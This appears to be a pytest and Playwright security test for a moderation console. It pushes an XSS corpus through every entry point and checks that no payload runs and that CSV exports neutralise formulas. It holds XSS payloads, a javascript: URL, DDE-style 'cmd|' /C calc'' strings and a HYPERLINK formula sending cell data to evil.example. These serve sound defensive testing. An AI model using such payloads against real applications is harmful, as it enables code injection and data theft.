"""The XSS corpus (tests/security/xss_corpus.py) through every entry point that stores text
and every page that shows it, in headless Chromium.

The world: a report whose every text field carries the corpus (through the REST intake), a
note and evidence (through the case page's forms), a decision with its statement of reasons,
an appeal (through support's form) and its decision, an escalation packet and its resolution,
a QA review with its notes, dispute and adjudication, a calibration session with notes and a
clarification, an access-log reason, automated flags from a detector with a hostile name, and
members whose names are payloads. Long fields carry the whole corpus; short ones (ids, names)
one payload each.

Every page is opened in a browser context that ignores the Content-Security-Policy
(``bypass_csp``), so that escaping alone is tested: the policy would stop most inline scripts
and hide an escaping bug. On each page: no payload ran (``window.__xss__``, console marker,
dialog), nothing an injection leaves is in the DOM (xss_corpus.DOM_PROBE), and chosen payloads
are shown as the same text. One page is then opened with the policy on, to show it reports no
violation (an injection it blocked would be one).

The CSV exports are read through their real URLs: every text cell that a spreadsheet would read
as a formula starts with an apostrophe.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.apps import apps
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from appeals import services as appeal_services
from appeals.models import Appeal
from appeals.setup import install_appeal_queues
from cases import services as case_services
from cases.intake import report_submit
from cases.models import Case, Evidence, Identifier
from enforcement import services as enforcement
from enforcement.models import EnforcementAction, OutboxEvent
from escalations import services as escalation_services
from metrics import rollups
from qa import services as qa_services
from qa.models import QAReview, Rubric, SamplingPlan
from qa.services import calibration
from qa.setup import install_default_rubric
from tests.browser import conftest as browser_conftest
from tests.browser.conftest import ARTIFACTS, PASSWORD, VIEWPORT
from tests.conftest import make_member
from tests.security.xss_corpus import (
    BY_ID,
    DOM_PROBE,
    INERT,
    INIT_SCRIPT,
    NUL_PAYLOAD,
    PAYLOADS,
    SEARCH_WORD,
    pack,
)
from tsops import roles
from tsops.services import api_key_create, member_create_or_update

pytestmark = pytest.mark.browser


def p(n: int) -> str:
    return BY_ID[n].text


# Members whose names are payloads (names are typed in by whoever runs the admin; usernames
# come from an identity provider in many set-ups).
XSS_ANALYST = "noor" + p(6)  # noor<img src=x onerror=xss(6)>
FIRST_NAME, LAST_NAME = p(21), p(38)
# Spreadsheet formulas where exports show names, detectors and free text.
FORMULA_ANALYST = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
FORMULA_DETECTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_NOTES = {"mateo_analyst": "+1+cmd|' /C calc'!A0", "ada_associate": "-2+3+cmd"}
FORMULA_CLARIFICATION = "=1+1"
FORMULAS = [FORMULA_ANALYST, FORMULA_DETECTOR, *FORMULA_NOTES.values(), FORMULA_CLARIFICATION]
SUBJECT_ID = p(37)  # "><script>xss(37)</script>
OWNER_ID = p(40)
REPORTER_ID = p(1)
# Detector names label the precision charts (a json_script block): this one closes the block.
DETECTOR = p(45)
# The console's URL field takes no spaces: the attribute breaker has none.
EVIDENCE_URL = 'https://evidence.example/?q="><svg/onload=xss(22)>'
SUBJECT_URL = "https://platform.example/p/'><img src=x onerror=xss(41)>"
TAGS = [p(21), p(37), p(40)]
# An id starting with RIGHT-TO-LEFT OVERRIDE: shown inline, followed by the console's text.
RLO_SUBJECT = "\u202egnp.exe-post"

# Payloads whose text every long field carries in full: the page must show them as written.
LITERAL = [p(1), p(6), p(37), p(43), p(45)] + [x.text for x in INERT if x.family != "unicode"]
UNICODE = [x.text for x in INERT if x.family == "unicode"]


# --- The world ---------------------------------------------------------------------------


def _post_ok(client: Client, url: str, data: dict) -> None:
    response = client.post(url, data)
    assert response.status_code == 302, (url, response.status_code, response.content[:2000])


@pytest.fixture
def world(live_server):
    install_appeal_queues(apps)
    install_default_rubric(apps)
    platform = make_member("platform_svc", roles.PLATFORM)
    decider = member_create_or_update(
        username=XSS_ANALYST,
        role=roles.ANALYST,
        password=PASSWORD,
        validate=False,
        first_name=FIRST_NAME,
        last_name=LAST_NAME,
    )
    formula_analyst = make_member(FORMULA_ANALYST, roles.ANALYST)
    reviewer = make_member("mateo_analyst", roles.ANALYST)
    associate = make_member("ada_associate", roles.ASSOCIATE)
    senior = make_member("grace_senior", roles.SENIOR)
    judge = make_member("priya_senior", roles.SENIOR)
    make_member("sam_support", roles.SUPPORT)
    specialist = make_member("tomas_threats", None, ("threats",))

    # Intake through the REST API: every text field of the report.
    _, key = api_key_create(user=platform, name="xss", scopes=["reports:write"])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    report = {
        "source": "user_report",
        "external_id": "xss-report-" + p(22),
        "reason": "spam",
        "description": pack(100_000, 0),
        "reporter_id": REPORTER_ID,
        "subject": {
            "kind": "content",
            "external_id": SUBJECT_ID,
            "owner_id": OWNER_ID,
            "text": pack(100_000, 20),
            "url": SUBJECT_URL,
            "media": [p(21), p(28)],
        },
        "identifiers": [{"kind": "email", "value": p(39) + "@mail.example"}],
    }
    created = api.post("/api/v1/reports", report, format="json")
    assert created.status_code in (200, 201), created.content
    # A javascript: URL and a NUL byte are refused at the door (400 naming the field).
    for bad in (
        {"subject": {**report["subject"], "url": "javascript:xss(51)"}},
        {"description": NUL_PAYLOAD},
    ):
        refused = api.post("/api/v1/reports", {**report, "external_id": "bad", **bad}, "json")
        assert refused.status_code == 400, (bad, refused.status_code, refused.content[:300])
    case = Case.objects.get(subject__external_id=SUBJECT_ID)
    # Automated flags from detectors with hostile names (shown on the timeline and the
    # detector-precision figures).
    for n, detector in enumerate((DETECTOR, FORMULA_DETECTOR)):
        flagged = report_submit(
            actor=platform,
            data={
                "source": "automated_flag",
                "external_id": f"xss-flag-{n}",
                "reason": "spam",
                "detector": detector,
                "score": 0.9,
                "subject": {"kind": "content", "external_id": SUBJECT_ID, "owner_id": OWNER_ID},
            },
        )
        assert flagged.errors is None, flagged.errors

    # The decider works the case through the case page's forms.
    case = case_services.case_claim(actor=decider, case_id=case.pk)
    console = Client()
    console.force_login(decider)
    _post_ok(console, f"/cases/{case.pk}/notes/", {"body": pack(20_000, 10)})
    _post_ok(
        console,
        f"/cases/{case.pk}/evidence/",
        {"kind": "url", "url": EVIDENCE_URL, "excerpt": pack(20_000, 30)},
    )
    refused = console.post(
        f"/cases/{case.pk}/evidence/", {"kind": "url", "url": "javascript:xss(51)"}
    )
    assert refused.status_code == 400
    assert Evidence.objects.filter(case=case).count() == 1
    # Tags through the case page's edit form (shown as badges and on the timeline).
    case.refresh_from_db()
    _post_ok(
        console,
        f"/cases/{case.pk}/edit/",
        {
            "version": case.version,
            "tags": ", ".join(TAGS),
            "severity": case.severity,
            "queue": case.queue_id,
        },
    )
    # An associate reveals an identifier, with a reason (the access log shows it).
    identifier = Identifier.objects.get(account__external_id=OWNER_ID)
    case_services.identifier_reveal(
        actor=associate, case_id=case.pk, identifier_id=identifier.pk, reason=pack(1000, 50)
    )
    case.refresh_from_db()
    decision = enforcement.decision_make(
        actor=decider,
        case_id=case.pk,
        version=case.version,
        outcome="violation",
        policy_section="SPAM-1.1",
        rationale=pack(10_000, 40),
        statement_of_reasons=pack(5_000, 60),
        actions=[{"type": "suspend", "duration_hours": 72}],
    )
    action = EnforcementAction.objects.get(decision=decision)

    # Support files the user's appeal through its form; a reviewer upholds the action.
    support = Client()
    support.force_login(make_member("sam_support", roles.SUPPORT))
    response = support.post(
        "/appeals/file/",
        {
            "action_id": action.pk,
            "statement": pack(10_000, 5),
            "appellant_id": p(42),
            "external_id": "xss-appeal-" + p(43),
        },
    )
    assert response.status_code == 302, response.content[:2000]
    appeal = Appeal.objects.get(action=action)
    appeal_services.appeal_claim(actor=reviewer, appeal_id=appeal.pk)
    appeal_services.appeal_decide(
        actor=reviewer,
        appeal_id=appeal.pk,
        outcome="upheld",
        rationale=pack(10_000, 15),
        response_to_user=pack(5_000, 25),
    )

    _intake(platform, "xss-rlo", RLO_SUBJECT, "bidi")
    # A second case, open in its queue, and a third waiting for a senior's approval.
    open_case = _intake(platform, "xss-open", p(45), pack(20_000, 35))
    pending_case = _intake(platform, "xss-pending", p(43), pack(20_000, 45))
    pending_case = case_services.case_claim(actor=associate, case_id=pending_case.pk)
    enforcement.decision_make(
        actor=associate,
        case_id=pending_case.pk,
        version=pending_case.version,
        outcome="violation",
        policy_section="SPAM-1.1",
        rationale=pack(10_000, 55),
        statement_of_reasons=pack(5_000, 65),
        actions=[{"type": "suspend", "duration_hours": 24 * 30}],
    )
    # The formula-named analyst decides one too (metrics and QA list deciders by name).
    other = case_services.case_claim(
        actor=formula_analyst, case_id=_intake(platform, "xss-other", "post-other", "spam").pk
    )
    enforcement.decision_make(
        actor=formula_analyst,
        case_id=other.pk,
        version=other.version,
        outcome="violation",
        policy_section="SPAM-1.1",
        rationale="Spam.",
        actions=[{"type": "remove_content"}],
    )

    # An escalation to the threats team, acknowledged and resolved.
    threat = _intake(platform, "xss-threat", p(44), pack(20_000, 70), reason="harassment")
    threat = case_services.case_claim(actor=decider, case_id=threat.pk)
    escalation = escalation_services.escalation_raise(
        actor=decider,
        case_id=threat.pk,
        team="threats",
        severity="P1",
        summary=pack(10_000, 3),
        criteria=pack(10_000, 13),
        next_steps=pack(10_000, 23),
    )
    escalation_services.escalation_acknowledge(actor=specialist, escalation_id=escalation.pk)
    escalation_services.escalation_resolve(
        actor=specialist,
        escalation_id=escalation.pk,
        outcome=pack(10_000, 33),
        referral=pack(10_000, 53),
    )

    # QA: a plan drawn over today's decisions; the corpus decision reviewed, failed, disputed
    # and adjudicated; the other one passed.
    plan = qa_services.plan_save(
        actor=senior,
        data={
            "name": "xss " + p(35)[:60],
            "rubric": Rubric.objects.get(name="Default"),
            "period": SamplingPlan.Period.DAY,
            "size_mode": SamplingPlan.SizeMode.FIXED,
            "fixed_size": 5,
        },
    )
    now = timezone.now()
    sample, _ = qa_services.sample_draw(
        actor=senior,
        plan_id=plan.pk,
        start=now - timedelta(hours=1),
        end=now + timedelta(minutes=5),
    )
    review = QAReview.objects.get(sample=sample, decision=decision)
    _review(reviewer, review, passed=False, notes=pack(5_000, 8), answer_notes=pack(5_000, 18))
    qa_services.review_dispute(actor=decider, review_id=review.pk, reason=pack(5_000, 28))
    qa_services.review_adjudicate(
        actor=judge, review_id=review.pk, uphold=True, notes=pack(5_000, 38)
    )
    for other_review in QAReview.objects.filter(sample=sample).exclude(pk=review.pk):
        if other_review.decision.decided_by_id != reviewer.pk:
            _review(reviewer, other_review, passed=True, notes="Fine.", answer_notes="")

    # Calibration on the corpus case: notes that are formulas, a payload clarification.
    session = calibration.calibration_session_create(
        actor=senior,
        name="xss " + p(44),
        case_ids=[case.pk],
        participant_ids=[reviewer.pk, associate.pk],
        description=pack(5_000, 48),
    )
    item = session.items.get()
    calibration.calibration_session_set_gold(
        actor=senior,
        session_id=session.pk,
        item_id=item.pk,
        outcome="violation",
        policy_section="SPAM-1.1",
        action="suspend",
        severity="P3",
    )
    calibration.calibration_session_open(actor=senior, session_id=session.pk)
    # They disagree, so the case is a policy-ambiguity candidate and shows its clarification.
    answers = {
        reviewer: {
            "outcome": "violation",
            "policy_section": "SPAM-1.1",
            "action": "suspend",
            "severity": "P2",
        },
        associate: {"outcome": "no_violation"},
    }
    for user, answer in answers.items():
        calibration.calibration_answer_submit(
            actor=user,
            session_id=session.pk,
            item_id=item.pk,
            notes=FORMULA_NOTES[user.username],
            **answer,
        )
        calibration.calibration_participant_submit(actor=user, session_id=session.pk)
    calibration.calibration_session_close(actor=senior, session_id=session.pk)
    calibration.calibration_clarification_save(
        actor=senior,
        session_id=session.pk,
        item_id=item.pk,
        clarification=FORMULA_CLARIFICATION + "\n" + pack(9_000, 58),
    )

    rollups.rebuild_range(timezone.localdate() - timedelta(days=2), timezone.localdate())
    return {
        "case": case,
        "open_case": open_case,
        "pending_case": pending_case,
        "threat": threat,
        "escalation": escalation,
        "appeal": appeal,
        "decision": decision,
        "event": OutboxEvent.objects.get(
            event_type=OutboxEvent.DECISION_MADE, payload__decision_id=decision.pk
        ),
        "review": review,
        "plan": plan,
        "sample": sample,
        "session": session,
        "item": item,
    }


def _intake(platform, external_id: str, subject_id: str, text: str, reason: str = "spam") -> Case:
    result = report_submit(
        actor=platform,
        data={
            "source": "user_report",
            "external_id": external_id,
            "reason": reason,
            "description": text,
            "reporter_id": REPORTER_ID,
            "subject": {
                "kind": "content",
                "external_id": subject_id,
                "owner_id": "acct-" + external_id,
                "text": text,
            },
        },
    )
    assert result.errors is None, result.errors
    return Case.objects.get(pk=result.case_id)


ALL_PASS = {
    "correct_outcome": True,
    "correct_policy_section": True,
    "proportionate_action": True,
    "evidence_complete": True,
    "rationale_clear": True,
}


def _review(reviewer, review, *, passed: bool, notes: str, answer_notes: str) -> None:
    qa_services.review_claim(actor=reviewer, review_id=review.pk)
    qa_services.review_answer(
        actor=reviewer, review_id=review.pk, outcome="no_violation", notes=answer_notes
    )
    scores = dict(ALL_PASS, correct_outcome=passed)
    qa_services.review_score(
        actor=reviewer,
        review_id=review.pk,
        scores=scores,
        error_types=[] if passed else ["false_positive"],
        notes=notes,
    )


# --- The browser -------------------------------------------------------------------------


# The page's text as a reader gets it: the text of every element (a collapsed <details>
# included) and what the form fields hold, entities decoded; never markup.
SHOWN_TEXT = """() => [document.body.textContent,
  ...Array.from(document.querySelectorAll("textarea, input"), el => el.value)].join("\\n")"""


# Where the id and the label after it are drawn: with the override leaking out of the id, the
# label's characters are drawn right to left, to the left of the id.
BIDI_ORDER = """h2 => {
  const id = h2.querySelector(".mono"), label = h2.querySelector(".muted");
  const text = label.firstChild, range = document.createRange();
  const x = i => { range.setStart(text, i); range.setEnd(text, i + 1);
                   return range.getBoundingClientRect().left; };
  const n = text.textContent.trimEnd().length;
  return {label: text.textContent.trim(), first: x(0), last: x(n - 1),
          id_right: id.getBoundingClientRect().right,
          label_after_id: x(0) < x(n - 1) && x(0) >= id.getBoundingClientRect().right - 1};
}"""


class Visitor:
    """A signed-in member's browser context that ignores the CSP and records what ran."""

    def __init__(self, browser, live_server, username: str, test_name: str, bypass_csp=True):
        self.context = browser.new_context(
            base_url=live_server.url, viewport=VIEWPORT, bypass_csp=bypass_csp
        )
        self.context.add_init_script(INIT_SCRIPT)
        self.page = self.context.new_page()
        self.page.set_default_timeout(15_000)
        self.console: list[str] = []
        self.dialogs: list[str] = []
        self.page.on("console", lambda message: self.console.append(message.text))
        self.page.on("dialog", self._dialog)
        self.page.on("pageerror", lambda error: self.console.append(f"pageerror: {error}"))
        folder = ARTIFACTS / test_name / browser_conftest._safe(username)[:40]
        browser_conftest._shots[id(self.page)] = [folder, 0]
        self.page.goto("/accounts/login/")
        self.page.get_by_label("Username").fill(username)
        self.page.get_by_label("Password").fill(PASSWORD)
        with self.page.expect_navigation():
            self.page.get_by_role("button", name="Sign in").click()
        assert "/accounts/login/" not in self.page.url, f"{username!r} could not sign in"

    def _dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def check(self, path: str, label: str, *, expect=(), findings: dict, status=200) -> str:
        """Open ``path``; record in ``findings`` what ran, what was injected, what is missing."""
        self.console.clear()
        self.dialogs.clear()
        response = self.page.goto(path)
        self.page.wait_for_load_state("load")
        # Broken images report their error a moment after the load event.
        self.page.wait_for_timeout(150)
        browser_conftest.screenshot(self.page, label)
        problems = []
        if response is None or response.status != status:
            problems.append(f"status {response.status if response else None}")
        ran = self.page.evaluate("window.__xss__ || []")
        if ran:
            problems.append(f"payloads ran: {ran}")
        markers = [m for m in self.console if "XSS-MARKER" in m or "pageerror" in m]
        if markers:
            problems.append(f"console: {markers[:5]}")
        if self.dialogs:
            problems.append(f"dialogs: {self.dialogs[:5]}")
        injected = self.page.evaluate(DOM_PROBE)
        if injected:
            problems.append(f"injected into the DOM: {sorted(set(injected))[:10]}")
        text = self.page.evaluate(SHOWN_TEXT)
        missing = [e for e in expect if e not in text]
        if missing:
            problems.append(f"not shown as text: {[m[:60] for m in missing]}")
        if problems:
            findings[f"{label} ({path[:80]})"] = problems
        return text

    def close(self) -> None:
        browser_conftest._shots.pop(id(self.page), None)
        self.context.close()


def test_no_payload_runs_or_is_injected_on_any_page_and_the_text_is_shown_as_written(
    browser, live_server, world, request
):
    w = world
    case, item, session = w["case"], w["item"], w["session"]
    findings: dict[str, list[str]] = {}
    name = request.node.name
    # The suspension is on the account that owns the reported content.
    lookup = "/lookup/?" + _query(kind="account", external_id=OWNER_ID)

    senior = Visitor(browser, live_server, "grace_senior", name)
    # A page that does not exist, named with a payload.
    senior.check(f"/no-such-page/{p(1)}/", "not-found", findings=findings, status=404)
    for path, label, expect in [
        ("/", "home", ()),
        ("/queues/", "queues", ()),
        ("/queues/spam/", "queue-spam", [p(45)]),
        ("/queues/spam/?" + _query(tag=p(38)), "queue-tag-filter", [p(38)]),
        (
            f"/cases/{case.pk}/",
            "case",
            [*LITERAL, *UNICODE, *TAGS, SUBJECT_ID, OWNER_ID, EVIDENCE_URL, DETECTOR],
        ),
        (f"/cases/{w['open_case'].pk}/", "open-case", [p(45), *LITERAL]),
        (f"/cases/{w['pending_case'].pk}/", "pending-case", [p(43), *LITERAL]),
        ("/approvals/", "approvals", [p(43)]),
        ("/search/?" + _query(q=SEARCH_WORD), "search-word", [SUBJECT_ID]),
        ("/search/?" + _query(q=p(37)), "search-payload", []),
        ("/search/?" + _query(q=p(43)), "search-textarea-breaker", []),
        ("/search/?" + _query(q=p(38)), "search-attribute-breaker", [p(38)]),
        ("/appeals/", "appeals", []),
        (f"/appeals/{w['appeal'].pk}/", "appeal", [*LITERAL]),
        ("/appeals/overview/", "appeals-overview", []),
        (f"/qa/reviews/{w['review'].pk}/", "qa-review", [*LITERAL]),
        ("/qa/reviews/", "qa-reviews", []),
        ("/qa/disputes/", "qa-disputes", []),
        ("/qa/", "qa-home", []),
        (f"/qa/plans/{w['plan'].pk}/", "qa-plan", []),
        (f"/qa/samples/{w['sample'].pk}/", "qa-sample", [XSS_ANALYST]),
        ("/qa/figures/?group_by=analyst", "qa-figures", [XSS_ANALYST]),
        ("/qa/calibration/", "calibration-list", ["xss " + p(44)]),
        (f"/qa/calibration/{session.pk}/", "calibration", [*LITERAL]),
        (f"/qa/calibration/{session.pk}/results/", "calibration-results", [*LITERAL]),
        (f"/qa/calibration/{session.pk}/cases/{item.pk}/", "calibration-case", [*LITERAL]),
        ("/metrics/", "metrics", [XSS_ANALYST]),
        ("/metrics/live/", "metrics-live", []),
        ("/metrics/transparency/", "transparency", []),
        ("/access-log/?username=ada_associate", "access-log", [p(51)]),
        (f"/admin/cases/case/{case.pk}/history/", "admin-history", []),
        ("/admin/cases/case/", "admin-cases", [SUBJECT_ID]),
        (f"/admin/enforcement/decision/{w['decision'].pk}/change/", "admin-decision", [p(41)]),
        # The event payload sent to the platform (statement of reasons included), as JSON.
        (f"/admin/enforcement/outboxevent/{w['event'].pk}/change/", "admin-event", [p(6)]),
        (lookup, "lookup-senior", [*LITERAL]),
    ]:
        senior.check(path, label, expect=expect, findings=findings)
    # The dashboard's drill-downs: every queue link of the live table.
    senior.page.goto("/metrics/live/")
    drill_downs = senior.page.eval_on_selector_all(
        "a[href^='/queues/']", "links => [...new Set(links.map(a => a.getAttribute('href')))]"
    )
    assert drill_downs
    for n, path in enumerate(drill_downs[:6]):
        senior.check(path, f"drill-down-{n}", findings=findings)
    senior.close()

    decider = Visitor(browser, live_server, XSS_ANALYST, name)
    for path, label, expect in [
        ("/", "decider-home", [XSS_ANALYST]),
        ("/qa/feedback/", "decider-feedback", []),
        (f"/qa/reviews/{w['review'].pk}/", "decider-review", [*LITERAL]),
        ("/metrics/me/", "decider-figures", []),
        (f"/cases/{case.pk}/", "decider-case", [*LITERAL]),
    ]:
        decider.check(path, label, expect=expect, findings=findings)
    decider.close()

    reviewer = Visitor(browser, live_server, "mateo_analyst", name)
    for path, label, expect in [
        (f"/appeals/{w['appeal'].pk}/", "reviewer-appeal", [*LITERAL]),
        (f"/qa/calibration/{session.pk}/cases/{item.pk}/", "participant-case", [*LITERAL]),
        (f"/qa/calibration/{session.pk}/", "participant-session", []),
    ]:
        reviewer.check(path, label, expect=expect, findings=findings)
    reviewer.close()

    team = Visitor(browser, live_server, "tomas_threats", name)
    for path, label, expect in [
        ("/escalations/", "team-inbox", []),
        (f"/escalations/{w['escalation'].pk}/", "packet", [*LITERAL, p(44)]),
        (f"/cases/{w['threat'].pk}/", "threat-case", [*LITERAL]),
    ]:
        team.check(path, label, expect=expect, findings=findings)
    team.close()

    support = Visitor(browser, live_server, "sam_support", name)
    for path, label, expect in [
        (lookup, "lookup", [*LITERAL]),
        ("/lookup/?" + _query(q=OWNER_ID), "lookup-by-q", [OWNER_ID, *LITERAL]),
        (f"/appeals/{w['appeal'].pk}/status/", "appeal-status", [*LITERAL]),
        (f"/appeals/file/?action={w['appeal'].action_id}", "appeal-file-form", []),
    ]:
        support.check(path, label, expect=expect, findings=findings)
    # An override in a user's text must not reorder the console's own text after it: the
    # lookup heading shows the id, then "0 actions on record" (left to right, after the id).
    support.page.goto("/lookup/?" + _query(kind="content", external_id=RLO_SUBJECT))
    heading = support.page.get_by_test_id("lookup-standing").locator("h2")
    order = heading.evaluate(BIDI_ORDER)
    browser_conftest.screenshot(support.page, "lookup-rtl-override")
    if not order["label_after_id"]:
        findings["lookup (right-to-left override)"] = [f"console text reordered: {order}"]
    support.close()

    report = "\n".join(f"{page}: {'; '.join(problems)}" for page, problems in findings.items())
    assert findings == {}, report


def test_with_the_policy_on_the_corpus_pages_report_no_violation(browser, live_server, world):
    # The policy as deployed: an injected inline script or handler that escaping let through
    # would be blocked and reported as a violation. None may be reported.
    visitor = Visitor(browser, live_server, "grace_senior", "policy-on", bypass_csp=False)
    for path in (f"/cases/{world['case'].pk}/", "/metrics/", f"/appeals/{world['appeal'].pk}/"):
        visitor.console.clear()
        visitor.page.goto(path)
        visitor.page.wait_for_load_state("load")
        visitor.page.wait_for_timeout(150)
        violations = [m for m in visitor.console if "Content Security Policy" in m]
        assert violations == [], (path, violations)
    visitor.close()


def _query(**params) -> str:
    from urllib.parse import urlencode

    return urlencode(params)


# --- The detectors catch every payload inserted raw ----------------------------------------


def test_every_active_payload_is_caught_when_inserted_unescaped(browser):
    # The control for the tests above: each payload put raw into its context (what an
    # escaping bug would produce) is seen by at least one detector; each inert one by none.
    context = browser.new_context(bypass_csp=True)
    context.add_init_script(INIT_SCRIPT)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    missed, false_alarms, executed = [], [], []
    for payload in PAYLOADS:
        dialogs.clear()
        page.goto("about:blank")
        page.set_content(f"<!doctype html><html><head></head><body>{payload.wrap()}</body></html>")
        page.wait_for_timeout(100)
        ran = page.evaluate("window.__xss__ || []")
        injected = page.evaluate(DOM_PROBE)
        caught = bool(ran or injected or dialogs)
        if payload.id in ran:
            executed.append(payload.id)
        if payload.context == "inert" and caught:
            false_alarms.append((payload.id, payload.text, ran, injected))
        if payload.context != "inert" and not caught:
            missed.append((payload.id, payload.text))
    context.close()
    assert missed == []
    assert false_alarms == []
    assert len(PAYLOADS) >= 50
    # Most of them really run when unescaped (the marker works); the others are seen in the
    # DOM (an attribute a browser ignores today, a frame, a javascript: link not clicked).
    print(f"ran when unescaped: {len(executed)} of {len(PAYLOADS) - len(INERT)}: {executed}")
    assert len(executed) >= 30


# --- CSV exports ---------------------------------------------------------------------------


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_exports_neutralise_every_formula(world):
    senior = Client()
    senior.force_login(make_member("grace_senior", roles.SENIOR))
    session = world["session"]
    exports = {
        "metrics kpis": "/metrics/?format=csv&table=kpis",
        "metrics series": "/metrics/?format=csv&table=series",
        "metrics breakdown": "/metrics/?format=csv&table=breakdown",
        "metrics live": "/metrics/live/?format=csv",
        "qa pass rates by analyst": "/qa/figures/?format=csv&group_by=analyst",
        "qa pass rates by queue": "/qa/figures/?format=csv&group_by=queue",
        "calibration answers": f"/qa/calibration/{session.pk}/results.csv?table=answers",
        "calibration summary": f"/qa/calibration/{session.pk}/results.csv?table=summary",
        "transparency": "/metrics/transparency/csv/",
    }
    found: dict[str, list[str]] = {}
    dangerous: dict[str, list[str]] = {}
    for name, url in exports.items():
        cells = _cells(senior.get(url))
        found[name] = cells
        bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)]
        if bad:
            dangerous[name] = bad
    assert dangerous == {}
    everything = [c for cells in found.values() for c in cells]
    # Each formula reached an export, and came out as text.
    for formula in FORMULAS:
        assert "'" + formula in everything or any(
            c.startswith("'" + formula) for c in everything
        ), formula
